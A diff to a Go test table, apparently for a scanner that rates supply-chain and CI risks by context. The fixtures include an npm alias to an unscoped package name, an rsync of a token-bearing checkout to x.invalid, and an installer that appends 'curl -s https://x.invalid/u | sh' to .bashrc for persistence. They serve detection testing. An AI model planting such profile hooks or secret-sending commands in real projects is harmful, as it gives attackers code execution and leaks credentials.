@@ -45,6 +45,9 @@ func TestSeverityByContext(t *testing.T) {
 		// The checkout sent whole carries .git/config with the job's token:
 		// a site's deploy does so too, so it is read, not feared.
 		{"deploy of the checkout", ".github/workflows/d.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: rsync -avz --delete ./ deploy@x.invalid:/var/www/", 7, "medium secret-send"},
+		// A scope's name flattened (types-react for @types/react) is how its
+		// owner ships a pre-release, and a name anyone may have registered.
+		{"npm alias to the scope's unscoped name", "package.json", "{\n  \"dependencies\": {\n    \"@types/react\": \"npm:types-react@rc\"\n  }\n}", 3, "medium source-switched"},
 		// An installer writes the profile; what it writes decides.
 		{"installer adds to PATH", "install.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> \"$HOME/.bashrc\"", 1, "medium persistence"},
 		{"installer adds a download", "install.sh", "echo 'curl -s https://x.invalid/u | sh' >> \"$HOME/.bashrc\"", 1, "high persistence"},
